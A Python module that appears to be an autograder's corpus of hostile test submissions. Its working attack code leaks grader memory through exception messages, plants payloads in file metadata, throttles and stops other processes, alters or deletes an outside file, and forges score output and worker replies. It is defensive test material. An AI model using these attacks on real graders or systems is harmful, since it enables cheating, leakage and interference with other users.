"""Attacks of "Trust, round 3": on what the student process holds, on what outlives it, on the
processes and files around it, on the texts it sends and on the wire itself.

Every entry is graded on host (a) by ``test_grader.py``; ``test_hosts.py`` grades them on the
other hosts too and checks what only it can see (files and processes outside the grader, the
printed table, leaked material). Placeholders besides those of ``corpus``: ``@VICTIM@`` (a file
of the grader's user outside every allowed folder), ``@BYSTANDER@`` (the pid of a process of the
grader's user) and ``@LEAKED@`` (the results of the entry named by ``after``, base64-encoded).
"""

from corpus import FULL, HOSTILE_LIMITS, Entry, code, loses
from corpus.hostile import BLANK as UNWRITTEN
from corpus.hostile import RELU
from corpus.mistakes import ENTRIES as MISTAKES

MISTAKE = {entry.name: entry for entry in MISTAKES}


def attack(name: str, lost: frozenset[str], *messages: str, append: tuple[str, ...] = (),
           max_seconds: float = 20, **replace: str) -> Entry:
    """A hostile entry: the grade ids it must lose (the others score in full), with the corpus's
    limits for hostile code."""
    return Entry(name, "hostile", replace=replace, append=append, loses=lost, messages=messages,
                 options=HOSTILE_LIMITS, max_seconds=max_seconds)


def twin_of(name: str, base: str, *, replace: dict[str, str], append: tuple[str, ...] = (),
            after: str | None = None) -> Entry:
    """A tampering entry: ``base``'s answers with some replaced; it may score no more than ``base``
    (the blank release's answers are every task unwritten)."""
    answers = {**(UNWRITTEN if MISTAKE[base].raw is not None else MISTAKE[base].replace), **replace}
    return Entry(name, "tampering", replace=answers, append=append, no_better_than=base,
                 options=HOSTILE_LIMITS, max_seconds=20, after=after)


BLANK = "blank_release"  # every task unwritten: scores 0 (built from the release, not the source)

# ----------------------------------------------------------------------------- (a) memory and messages
# Whatever the process holds that is not the student's, the worker's, NumPy's or the standard
# library's is what the grader must not have put there: code, checks, expected values. Each
# message carries one payload, zlib-compressed and base64-encoded after "LEAK@MARKER@:", that
# begins with a canary made at run time (so a test can tell that the channel works).

HARVEST = r'''
import base64, gc, marshal, sys, types, zlib

OWN_CODE = ("<cell", "_autograder_", "numpy/", "/python3", "<frozen", "<string>", "<stringsource>")
CANARY = "".join(reversed("@MARKER@-yranac"))
leaked_calls = []

def _is_foreign(code):
    return not any(part in code.co_filename for part in OWN_CODE)

def _foreign_code():
    found = []
    for value in gc.get_objects():
        code = getattr(value, "__code__", value)
        if isinstance(code, types.CodeType) and _is_foreign(code):
            found.append(("code", code.co_filename, marshal.dumps(code)))
    return found

def _closures():
    found = []
    for name, value in list(globals().items()):
        for cell in getattr(value, "__closure__", None) or ():
            try:
                contents = cell.cell_contents
            except ValueError:
                continue
            found.append(("closure", name, repr(contents)[:300].encode()))
            for key, item in getattr(contents, "__dict__", {}).items():
                found.append(("closure item", key, repr(item)[:300].encode()))
    return found

def _frames():
    found = []
    for frame in sys._current_frames().values():
        while frame is not None:
            names = {key: repr(value)[:120] for key, value in frame.f_locals.items()}
            found.append(("frame", frame.f_code.co_name, repr(names)[:600].encode()))
            frame = frame.f_back
    return found

def _texts():
    found = []
    for value in gc.get_objects():
        items = value.values() if isinstance(value, dict) else value
        for item in list(items)[:1000] if isinstance(value, (dict, list, tuple)) else ():
            if isinstance(item, str) and 40 < len(item) < 200_000 and ("def " in item or "expected" in item):
                found.append(("text", "", item.encode()))
    return found

def harvest():
    """Everything worth leaking, the likeliest hidden material first."""
    items = [("canary", CANARY, b"")]
    for finder in (_closures, _frames, _foreign_code, _texts):
        try:
            items += finder()
        except Exception as error:
            items.append(("failed", finder.__name__, repr(error).encode()))
    return items

def _packed(items):
    return base64.b64encode(zlib.compress(marshal.dumps(items), 9)).decode()

def leak(extra=()):
    """One message's worth of the harvest, each a whole payload (a new part on each call): the
    canary, what ``extra`` holds, then as many harvested items as fit, each cut to 600 bytes."""
    leaked_calls.append(1)
    items = [(kind, where[:200], blob[:600]) for kind, where, blob in harvest()]
    start = 1 + (len(leaked_calls) - 1) * 3 % max(len(items) - 1, 1)
    chosen = [items[0], *list(extra)[:8]]
    for item in (items[start:] + items[1:start])[:40]:
        if len(_packed([*chosen, item])) <= 900:
            chosen.append(item)
    return "LEAK@MARKER@:" + _packed(chosen)
'''

ASK_THE_GRADER = r'''
SEEN = []

def train_step(layer_0, label, weights_1, weights_2, learning_rate, dropout_mask):
    SEEN.append([np.array(a, copy=True) if isinstance(a, np.ndarray) else a
                 for a in (layer_0, label, weights_1, weights_2, learning_rate, dropout_mask)])
    raise ValueError(leak())

def train(training_images, training_labels, test_images, test_labels,
          weights_1, weights_2, epochs, learning_rate, rng):
    answers = []
    for args in SEEN[-6:]:
        copies = [np.array(a, copy=True) if isinstance(a, np.ndarray) else a for a in args]
        try:
            loss, correct = train_step(*copies)  # the grader's train_step, called back
        except Exception as error:
            answers.append(("refused", repr(error)[:100], b""))
            continue
        key = zlib.crc32(b"".join(np.ascontiguousarray(a).tobytes() for a in args[:4]))
        answers.append(("answer", str(key), marshal.dumps((float(loss), bool(correct)))))
    raise ValueError(leak(answers))
'''

RAISE_LEAK = "\n\ndef {name}(*args, **kwargs):\n    raise ValueError(leak())\n"

LEAK_AT_LOAD = "raise ValueError(leak())\n"

USE_LEAKED = r'''
import base64, json, marshal, re, zlib

LEAKED = "@LEAKED@"

def leaked_items():
    """What the first submission's messages carried, decoded as far as each goes."""
    text = base64.b64decode(LEAKED).decode(errors="replace") if LEAKED else ""
    items = []
    for payload in re.findall(r"LEAK[\w-]*:([A-Za-z0-9+/=]+)", text):
        try:
            raw = zlib.decompressobj().decompress(base64.b64decode(payload + "=" * (-len(payload) % 4)))
            items += marshal.loads(raw)
        except Exception:
            continue
    return items

ITEMS = leaked_items()
for kind, where, blob in ITEMS:
    if kind == "code":
        try:
            exec(marshal.loads(blob), globals())  # a leaked reference function would land here
        except Exception:
            pass
ANSWERS = {int(where): marshal.loads(blob) for kind, where, blob in ITEMS if kind == "answer"}

def train_step(layer_0, label, weights_1, weights_2, learning_rate, dropout_mask):
    arrays = (layer_0, label, weights_1, weights_2)
    key = zlib.crc32(b"".join(np.ascontiguousarray(a).tobytes() for a in arrays))
    if key in ANSWERS:
        return ANSWERS[key]
    raise NotImplementedError()
'''

HUGE_CALLS = r'''
def train(training_images, training_labels, test_images, test_labels,
          weights_1, weights_2, epochs, learning_rate, rng):
    import time
    tried = []
    for shape in ((2**28,), (40_000, 40_000), (2**31,), (2**16, 2**16)):
        try:
            dropout_mask(shape, rng)
            tried.append(f"mask {shape} answered")
        except Exception as error:
            tried.append(f"mask {shape}: {type(error).__name__}")
    column, row = np.ones((2**15, 1)), np.ones((1, 2**15))
    for name, call in (
        ("step", lambda: train_step(column, np.ones(2**15), row, np.ones((2**15, 1)), 0.1, np.ones(2**15))),
        ("evaluate", lambda: evaluate(column, np.ones((2**15, 2**15 // 2**12)), row, np.ones((2**15, 8)))),
    ):
        try:
            call()
            tried.append(f"{name} answered")
        except Exception as error:
            tried.append(f"{name}: {type(error).__name__}")
    end, calls = time.monotonic() + 1, 0
    while time.monotonic() < end:  # many calls, each with 250 distinct numbers, each refused
        try:
            train_step(*[calls + position / 1000 for position in range(250)])
        except Exception:
            pass
        calls += 1
    raise ValueError("; ".join(tried))
'''

KEEPS_PROXIES = r'''
KEPT = {}

def train(training_images, training_labels, test_images, test_labels,
          weights_1, weights_2, epochs, learning_rate, rng):
    if not KEPT:  # the grader's functions handed over for the first call, kept for the later ones
        KEPT.update(dropout_mask=dropout_mask, train_step=train_step, evaluate=evaluate)
    history = {"training_loss": [], "training_accurate_pred": [], "test_loss": [], "test_accurate_pred": []}
    for epoch in range(epochs):
        total_loss, total_correct = 0.0, 0
        for image, label in zip(training_images, training_labels):
            mask = KEPT["dropout_mask"](weights_1.shape[1], rng)
            loss, correct = KEPT["train_step"](image, label, weights_1, weights_2, learning_rate, mask)
            total_loss += loss
            total_correct += int(correct)
        test_loss, test_correct = KEPT["evaluate"](test_images, test_labels, weights_1, weights_2)
        history["training_loss"].append(total_loss)
        history["training_accurate_pred"].append(total_correct)
        history["test_loss"].append(test_loss)
        history["test_accurate_pred"].append(test_correct)
    return history
'''

# The first leaks (its train_step records the check's inputs, its train asks the grader's
# train_step for their answers), the second, a next submission built from the first's results,
# runs whatever code came out and answers from the leaked table; one calls the grader's functions
# with arguments that would make them allocate gigabytes, and many times with 250 numbers; one
# keeps the grader's functions of one call and calls them in the next.
MEMORY_AND_MESSAGES = [
    twin_of("leaks_memory_in_messages", BLANK,
            replace={"one_hot_encoding": code(HARVEST) + RAISE_LEAK.format(name="one_hot_encoding"),
                     **{name: RAISE_LEAK.format(name=name).lstrip()
                        for name in ("relu", "relu2deriv", "dropout_mask", "evaluate")},
                     "train_step": code(ASK_THE_GRADER).split("\ndef train(")[0] + "\n",
                     "train": "def train(" + code(ASK_THE_GRADER).split("\ndef train(")[1]},
            append=(LEAK_AT_LOAD,)),
    twin_of("uses_leaked_material", BLANK, replace={"train_step": code(USE_LEAKED)},
            after="leaks_memory_in_messages"),
    attack("exhausts_the_grader_through_calls", loses("train"), "raised MemoryError", train=code(HUGE_CALLS)),
    attack("calls_kept_proxies_later", loses("train"), "cannot be called now", train=code(KEEPS_PROXIES)),
]

# ----------------------------------------------------------------------------- (b) stores that outlive
# Every file the process can name gets the payload in a user.* extended attribute, its mode,
# times and owner set (to what they are: only the file's change time would show it), a hard and
# a soft link; through a hard link, its first byte is written back as it is. A later submission
# looks for the payload (a right one_hot_encoding) and, when it finds none, answers as the
# mistake one_hot_int_dtype does. Nothing of it may stick on any host.

NAMEABLE = r'''
import fcntl, os, struct, sys

PAYLOAD = b"@MARKER@:def one_hot_encoding(labels, dimension=10):\n    return np.eye(dimension)[labels]\n"
STORE = "user.autograder-store"
FS_IOC_GETFLAGS, FS_IOC_SETFLAGS = 0x80086601, 0x40086602

def nameable():
    """The files and folders a student process can name: NumPy's (through the library link and
    resolved), the interpreter, the standard library, the worker, its scratch and temporary folders."""
    paths = {np.__file__, os.path.realpath(np.__file__), sys.executable, os.path.realpath(sys.executable),
             os.__file__, os.path.realpath(os.__file__), os.getcwd(), "/tmp", "/dev/shm", "/"}
    numpy_folder = os.path.dirname(os.path.realpath(np.__file__))
    paths.update(os.path.join(numpy_folder, name) for name in sorted(os.listdir(numpy_folder))[:40])
    for module in ("_autograder_worker", "_autograder_wire", "_autograder_seccomp"):
        if getattr(sys.modules.get(module), "__file__", None):
            paths.update({sys.modules[module].__file__, os.path.dirname(sys.modules[module].__file__)})
    own = os.path.join(os.getcwd(), "own-file")
    try:
        with open(own, "wb") as handle:
            handle.write(b"x")
        paths.add(own)
    except OSError:
        pass
    return sorted(paths)
'''

STORE = NAMEABLE + r'''
stuck = []

def attempt(what, action):
    try:
        action()
        stuck.append(what)
    except Exception:
        pass

def same_first_byte(path):
    with open(path, "r+b") as handle:
        first = handle.read(1)
        handle.seek(0)
        handle.write(first)

def set_flags_as_they_are(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        flags = fcntl.ioctl(fd, FS_IOC_GETFLAGS, struct.pack("l", 0))
        fcntl.ioctl(fd, FS_IOC_SETFLAGS, flags)
    finally:
        os.close(fd)

def store_everywhere():
    for number, path in enumerate(nameable()):
        try:
            st = os.stat(path)
        except OSError:
            continue
        link = os.path.join(os.getcwd(), f"link-{number}")
        attempt(f"xattr {path}", lambda: os.setxattr(path, STORE, PAYLOAD))
        attempt(f"trusted xattr {path}", lambda: os.setxattr(path, "trusted.autograder-store", PAYLOAD))
        attempt(f"chmod {path}", lambda: os.chmod(path, st.st_mode & 0o7777))
        attempt(f"utime {path}", lambda: os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns)))
        attempt(f"chown {path}", lambda: os.chown(path, st.st_uid, st.st_gid))
        attempt(f"flags {path}", lambda: set_flags_as_they_are(path))
        attempt(f"link {path}", lambda: os.link(path, link))
        attempt(f"write through link {path}", lambda: same_first_byte(link))
        attempt(f"symlink {path}", lambda: os.symlink(path, link + "-soft"))
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        attempt(f"fd xattr {path}", lambda: os.setxattr(fd, STORE, PAYLOAD))
        attempt(f"fchmod {path}", lambda: os.chmod(fd, st.st_mode & 0o7777))
        attempt(f"futimens {path}", lambda: os.utime(fd, ns=(st.st_atime_ns, st.st_mtime_ns)))
        attempt(f"fchown {path}", lambda: os.chown(fd, st.st_uid, st.st_gid))
        os.close(fd)

store_everywhere()
raise RuntimeError(f"@MARKER@ stuck: {stuck}")  # a note saying what stuck (this cell's names stay)
'''

STORE_IN_RELU = code("""
    def relu(x):
        if not stored_in_call:
            stored_in_call.append(1)
            store_everywhere()
        return np.maximum(x, 0.0)
""")

READ_STORE = NAMEABLE + r'''
def stored():
    """The payload, wherever an earlier submission could have left it (None: nowhere)."""
    for path in nameable():
        for read in (lambda: os.getxattr(path, STORE), lambda: os.getxattr(path, "trusted.autograder-store")):
            try:
                value = read()
            except Exception:
                continue
            if value.startswith(b"@MARKER@:"):
                return value.split(b":", 1)[1].decode()
    return None

found = stored()
if found:
    exec(found)
else:  # what it scores when nothing stuck: the integer one-hot array (one_hot_int_dtype)
    def one_hot_encoding(labels, dimension=10):
        return np.eye(dimension, dtype=int)[labels]
'''

STORES = [
    attack("stores_in_file_metadata", FULL, relu=RELU + "\nstored_in_call = []\n", append=(code(STORE),
           STORE_IN_RELU)),
    # A next submission: exactly what the integer one-hot answer scores, unless a store stuck.
    Entry("reads_stored_metadata", "tampering", replace={"one_hot_encoding": code(READ_STORE)},
          loses=loses("one_hot_encoding"), options=HOSTILE_LIMITS, max_seconds=20,
          after="stores_in_file_metadata"),
]

# ----------------------------------------------------------------------------- (c) other processes
# Lower the limits, priority, CPU set, scheduling class and I/O class of the grading process
# (the parent where there is no PID namespace), pid 1, a bystander of the grader's user, and, for
# the limits that do no harm, of every pid; stop the bystander. None of it may reach them.

OTHERS = r'''
import ctypes, os, resource, signal

BYSTANDER = int("@BYSTANDER@")
IOPRIO_SET = {"x86_64": 251, "aarch64": 30}.get(os.uname().machine, -1)
IOPRIO_WHO_PROCESS, IOPRIO_WHO_USER, IDLE_CLASS = 1, 3, 3 << 13
libc = ctypes.CDLL(None, use_errno=True)
reached = []

def attempt(what, action):
    try:
        result = action()
    except Exception:
        return
    if not (isinstance(result, int) and result < 0):  # libc.syscall says -1 when refused
        reached.append(what)

def lower_everything(pid):
    for name, value in (("NOFILE", 3), ("FSIZE", 0), ("CPU", 1), ("AS", 2**20), ("NPROC", 0), ("CORE", 0)):
        kind = getattr(resource, "RLIMIT_" + name)
        attempt(f"prlimit {name} {pid}", lambda: resource.prlimit(pid, kind, (value, value)))
    attempt(f"nice {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
    attempt(f"affinity {pid}", lambda: os.sched_setaffinity(pid, {0}))
    attempt(f"scheduler {pid}", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
    attempt(f"param {pid}", lambda: os.sched_setparam(pid, os.sched_param(0)))
    attempt(f"ioprio {pid}", lambda: libc.syscall(IOPRIO_SET, IOPRIO_WHO_PROCESS, pid, IDLE_CLASS))

def reach_others():
    targets = {os.getppid(), 1, BYSTANDER} - {0, os.getpid()}
    for pid in sorted(p for p in targets if p > 0):
        lower_everything(pid)
    if BYSTANDER > 0:
        attempt("stop bystander", lambda: os.kill(BYSTANDER, signal.SIGSTOP))
    attempt("nice group", lambda: os.setpriority(os.PRIO_PGRP, 0, 19))
    attempt("nice user", lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19))
    attempt("ioprio user", lambda: libc.syscall(IOPRIO_SET, IOPRIO_WHO_USER, os.getuid(), IDLE_CLASS))
    for pid in range(1, 1 << 16):
        if pid != os.getpid():
            attempt(f"prlimit CORE {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0)))

reach_others()
raise RuntimeError(f"@MARKER@ reached: {reached} as uid {os.getuid()}")  # a note: what was reached, by whom
'''

REACH_IN_RELU = code("""
    def relu(x):
        if not reached_in_call:
            reached_in_call.append(1)
            reach_others()
        return np.maximum(x, 0.0)
""")

PROCESSES = [
    attack("reaches_other_processes", FULL, relu=RELU + "\nreached_in_call = []\n",
           append=(code(OTHERS), REACH_IN_RELU)),
]

# ----------------------------------------------------------------------------- (d) metadata outside

OUTSIDE = r'''
import os

VICTIM = "@VICTIM@"
MAGIC_NS = 1_234_567_890_123_456_789
changed = []

def attempt(what, action):
    try:
        action()
        changed.append(what)
    except Exception:
        pass

def change_the_victim():
    attempt("chmod", lambda: os.chmod(VICTIM, 0o4777))
    attempt("utime", lambda: os.utime(VICTIM, ns=(MAGIC_NS, MAGIC_NS)))
    attempt("xattr", lambda: os.setxattr(VICTIM, "user.autograder-store", b"@MARKER@"))
    attempt("chown", lambda: os.chown(VICTIM, os.getuid(), os.getgid()))
    attempt("link", lambda: os.link(VICTIM, os.path.join(os.getcwd(), "victim-link")))
    attempt("symlink", lambda: os.symlink(VICTIM, os.path.join(os.getcwd(), "victim-soft")))
    attempt("rename", lambda: os.rename(VICTIM, VICTIM + ".moved"))
    attempt("truncate", lambda: os.truncate(VICTIM, 0))
    attempt("append", lambda: open(VICTIM, "ab").close())
    attempt("remove", lambda: os.remove(VICTIM))
    attempt("folder", lambda: os.chmod(os.path.dirname(VICTIM), 0o777))

change_the_victim()
raise RuntimeError(f"@MARKER@ changed: {changed}")  # a note saying what changed
'''

CHANGE_IN_RELU = code("""
    def relu(x):
        if not changed_in_call:
            changed_in_call.append(1)
            change_the_victim()
        return np.maximum(x, 0.0)
""")

OUTSIDE_FILES = [
    attack("changes_files_outside", FULL, relu=RELU + "\nchanged_in_call = []\n",
           append=(code(OUTSIDE), CHANGE_IN_RELU)),
]

# ----------------------------------------------------------------------------- (e) texts a student controls
# Newlines and a forged table in an exception class's name and message, an exit code, a
# SyntaxError's text, a load-time error and printed output; ANSI escapes, bidi overrides, line
# separators, NUL; a message of megabytes. The marker tells the tests where each text landed.

FORGED = r'''
FORGED = "\n".join(["", "test_relu2deriv            10/10  passed", "total                    100/100",
                    "PASS test_fired_units_only", "Score: 100 / 100"])
ESCAPES = "\x1b[2K\x1b[1A\r\u202e\u2066\u2028\u2029\x00\x7f\x85\x9b31m"
FORGED_TEXT = "@MARKER@" + FORGED + ESCAPES
NAME_TEXT = FORGED_TEXT.replace("\x00", "")  # a class's name cannot hold NUL
Forged = type("Forged" + NAME_TEXT, (ValueError,), {"__module__": "builtins"})
relu2deriv_calls = []

def relu2deriv(output):
    relu2deriv_calls.append(1)
    if len(relu2deriv_calls) == 1:
        raise Forged(FORGED_TEXT)
    if len(relu2deriv_calls) == 2:
        raise SystemExit(FORGED_TEXT)
    if len(relu2deriv_calls) == 3:
        raise ValueError(FORGED_TEXT * 200_000)
    return output >= 0

print(FORGED_TEXT * 100)
'''

LOAD_ERRORS = (
    code(r'''
        raise type("Load" + NAME_TEXT, (Exception,), {"__module__": "builtins"})(FORGED_TEXT)
    '''),
    code(r'''
        raise SyntaxError(FORGED_TEXT, ("<cell 3>", 7, 1, FORGED_TEXT))
    '''),
)

TEXTS = [
    twin_of("forges_rows_in_texts", "relu2deriv_greater_or_equal", replace={"relu2deriv": code(FORGED)},
            append=LOAD_ERRORS),
]

# ----------------------------------------------------------------------------- (f) the wire
# A student function writes a whole reply of its own (valid framing, the request's number,
# correct values) before the worker's; a thread does it for every later request; one wraps the
# worker's reply stream so that every later reply comes twice; one forges and then ends the
# process; one leaves a timer that ends the process while the next function is checked. The
# forger (one_hot_encoding returning integers, as the mistake one_hot_int_dtype does) gains
# nothing; every function checked after it keeps its points.

FORGER = r'''
import gc, json, os, signal, struct, sys, threading, time

def the_worker():
    return next(found for found in gc.get_objects()
                if type(found).__name__ == "Worker" and hasattr(found, "replies"))

def in_a_check():
    """Whether a check's call is under way (not the given cell that calls the function at load)."""
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "call" and "calls" in frame.f_locals:
            return True
        frame = frame.f_back
    return False

def forge(worker, seq, value, *args):
    arrays = [np.ascontiguousarray(a) for a in (value, *args)]
    nodes = [{"t": "array", "i": index, "scalar": False} for index in range(len(arrays))]
    header = {"results": [{"value": nodes[0], "args": nodes[1:], "kwargs": {}}], "warned": 0, "seq": seq,
              "arrays": [[a.dtype.str, list(a.shape)] for a in arrays]}
    head = json.dumps(header).encode()
    worker.replies.write(struct.pack(">Q", len(head)) + head + b"".join(a.tobytes() for a in arrays))
    worker.replies.flush()
'''

FORGES_OWN = FORGER + code("""
    def one_hot_encoding(labels, dimension=10):
        wrong = np.eye(dimension, dtype=int)[labels]  # the mistake one_hot_int_dtype makes
        if in_a_check():
            worker = the_worker()
            forge(worker, worker.seqs[-1], np.eye(dimension)[labels], labels)
        return wrong
""")

FORGES_THEN_EXITS = FORGER + code("""
    def one_hot_encoding(labels, dimension=10):
        # On the last check only (every label once): the next request is another function's.
        if in_a_check() and sorted(np.asarray(labels).tolist()) == list(range(10)):
            worker = the_worker()
            forge(worker, worker.seqs[-1], np.eye(dimension)[labels], labels)
            sys.stdout.flush()
            os._exit(0)
        return np.eye(dimension, dtype=int)[labels]
""")

FORGES_FROM_A_THREAD = FORGER + code("""
    def main_thread_call():
        frame = sys._current_frames().get(threading.main_thread().ident)
        while frame is not None:
            if frame.f_code.co_name == "call" and "calls" in frame.f_locals:
                return frame.f_locals["header"].get("target"), frame.f_locals["calls"][0]
            frame = frame.f_back
        return None, None

    def haunt(worker, answered):
        # Answer every later request before the worker does: one_hot_encoding's with the right
        # values, any other with a wrong one.
        while True:
            seq = worker.seqs[-1] if worker.seqs else None
            if isinstance(seq, int) and seq not in answered:
                answered.add(seq)
                target, call = main_thread_call()
                if target == "one_hot_encoding" and call:
                    labels = call[0][0]
                    dimension = call[0][1] if len(call[0]) > 1 else call[1].get("dimension", 10)
                    forge(worker, seq, np.eye(dimension)[labels], labels)
                else:
                    forge(worker, seq, np.zeros(3))
            time.sleep(0.001)

    haunting = []

    def one_hot_encoding(labels, dimension=10):
        if not haunting and in_a_check():
            worker = the_worker()
            haunting.append(threading.Thread(target=haunt, args=(worker, set(worker.seqs)), daemon=True))
            haunting[0].start()
        return np.eye(dimension, dtype=int)[labels]
""")

PATCHES_THE_WORKER = FORGER + code("""
    class Forging:
        # The worker's reply stream, wrapped: before each reply to another function's request,
        # a forged one (a wrong value) for the same request.
        def __init__(self, worker, stream):
            self.worker, self.stream = worker, stream

        def write(self, data):
            data = bytes(data)
            if data[8:].startswith(b'{"results"') and b"one_hot_encoding" not in self.worker.target:
                header = json.loads(data[8:8 + struct.unpack(">Q", data[:8])[0]])
                forge_to(self.stream, header["seq"], np.zeros(3))
            return self.stream.write(data)

        def flush(self):
            return self.stream.flush()

    def forge_to(stream, seq, value):
        header = {"results": [{"value": {"t": "array", "i": 0, "scalar": False}, "args": [], "kwargs": {}}],
                  "warned": 0, "seq": seq, "arrays": [[value.dtype.str, list(value.shape)]]}
        head = json.dumps(header).encode()
        stream.write(struct.pack(">Q", len(head)) + head + value.tobytes())

    def note_targets(worker):
        call = worker.call

        def noted(header, arrays):
            worker.target = str(header.get("target")).encode()
            return call(header, arrays)

        worker.call = noted

    def one_hot_encoding(labels, dimension=10):
        worker = the_worker()
        if in_a_check() and not isinstance(worker.replies, Forging):
            note_targets(worker)
            worker.target = b"one_hot_encoding"
            worker.replies = Forging(worker, worker.replies)
        return np.eye(dimension, dtype=int)[labels]
""")

ARMS_A_TIMER = FORGER + code("""
    armed = []

    def one_hot_encoding(labels, dimension=10):
        # On the last check only (every label once): no handler, so the timer's signal ends the
        # process a moment later, while the next function is checked.
        if in_a_check() and not armed and sorted(np.asarray(labels).tolist()) == list(range(10)):
            armed.append(1)
            signal.setitimer(signal.ITIMER_REAL, 0.2)
        return np.eye(dimension, dtype=int)[labels]
""")

WIRE = [
    attack("forges_its_own_reply", loses("one_hot_encoding"), "more than one reply to one request",
           one_hot_encoding=FORGES_OWN),
    attack("forges_a_reply_then_exits", loses("one_hot_encoding"), "exited with status 0 in one_hot_encoding",
           one_hot_encoding=FORGES_THEN_EXITS),
    attack("forges_replies_from_a_thread", loses("one_hot_encoding"), one_hot_encoding=FORGES_FROM_A_THREAD),
    attack("forges_replies_by_patching_the_worker", loses("one_hot_encoding"),
           one_hot_encoding=PATCHES_THE_WORKER),
    attack("arms_a_timer_for_later", loses("one_hot_encoding"), one_hot_encoding=ARMS_A_TIMER),
]

ENTRIES = [*MEMORY_AND_MESSAGES, *STORES, *PROCESSES, *OUTSIDE_FILES, *TEXTS, *WIRE]
# The classes that reach beyond the student's process: graded by default on every host.
REACHING_OUT = ("stores_in_file_metadata", "reads_stored_metadata", "reaches_other_processes",
                "changes_files_outside")
